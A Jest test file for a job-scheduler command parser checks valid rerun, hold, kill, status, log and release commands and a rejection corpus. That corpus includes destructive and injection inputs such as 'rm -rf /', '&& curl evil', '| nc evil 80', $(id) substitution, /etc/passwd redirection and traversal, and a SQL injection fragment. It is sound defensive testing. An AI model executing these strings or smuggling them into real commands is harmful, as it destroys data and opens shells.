import { COMMAND_GRAMMAR, CommandRejectedError, parseCommand } from './command-grammar';

describe(parseCommand.name, () => {
  it.each([
    [
      'rerun MASTER#PAYROLL.PAY_CALC',
      {
        scope: 'job',
        verb: 'rerun',
        target: { kind: 'name', workstation: 'MASTER', jobStream: 'PAYROLL', job: 'PAY_CALC' },
      },
    ],
    [
      'HOLD master#payroll.pay_calc',
      {
        scope: 'job',
        verb: 'hold',
        target: { kind: 'name', workstation: 'MASTER', jobStream: 'PAYROLL', job: 'PAY_CALC' },
      },
    ],
    [
      'kill 8533d267-1edf-fee2-9013-ea866f199415',
      { scope: 'job', verb: 'kill', target: { kind: 'id', id: '8533d267-1edf-fee2-9013-ea866f199415' } },
    ],
    ['status JOB_1', { scope: 'job', verb: 'status', target: { kind: 'id', id: 'JOB_1' } }],
    [
      '  log MASTER#EOD_CLOSE.EOD_POST  ',
      {
        scope: 'job',
        verb: 'log',
        target: { kind: 'name', workstation: 'MASTER', jobStream: 'EOD_CLOSE', job: 'EOD_POST' },
      },
    ],
    [
      'release stream MASTER#PAYROLL',
      { scope: 'stream', verb: 'release', workstation: 'MASTER', jobStream: 'PAYROLL' },
    ],
  ])('accepts %j', (input, expected) => {
    expect(parseCommand(input)).toEqual(expected);
  });

  const corpus = [
    '',
    '   ',
    'rm -rf /',
    'rerun JOB1; rm -rf /',
    'rerun JOB1 && curl evil',
    'rerun JOB1 | nc evil 80',
    'rerun `id`',
    'rerun $(id)',
    'rerun ${IFS}',
    'rerun JOB1\nrm -rf /',
    'rerun JOB1\trm',
    'rerun JOB1 > /etc/passwd',
    'rerun ../../etc/passwd',
    "rerun MASTER#PAYROLL.PAY_CALC' OR '1'='1",
    'rerun MASTER#PAYROLL.PAY_CALC extra',
    'rerun  JOB1',
    'rerun',
    'submit JOB1',
    'conman sj',
    'hold stream MASTER#PAYROLL.JOB',
    'kill stream MASTER#PAYROLL',
    'hold MASTER#PAYROLL',
    'hold MASTER##PAYROLL.X',
    'rerun %0a',
    'rerun JOB1&',
    'rerun <script>',
    'rerun -rf',
    'rerun ' + 'A'.repeat(65),
    'x'.repeat(201),
    'rerun JOB1\u0000',
    'rerun ＪＯＢ1',
  ];

  it.each(corpus)('rejects %j with the grammar in the message', (input) => {
    let error: unknown;
    try {
      parseCommand(input);
    } catch (e) {
      error = e;
    }
    expect(error).toBeInstanceOf(CommandRejectedError);
    expect((error as Error).message).toContain(COMMAND_GRAMMAR);
    expect((error as CommandRejectedError).kind).toBe('invalid');
  });
});
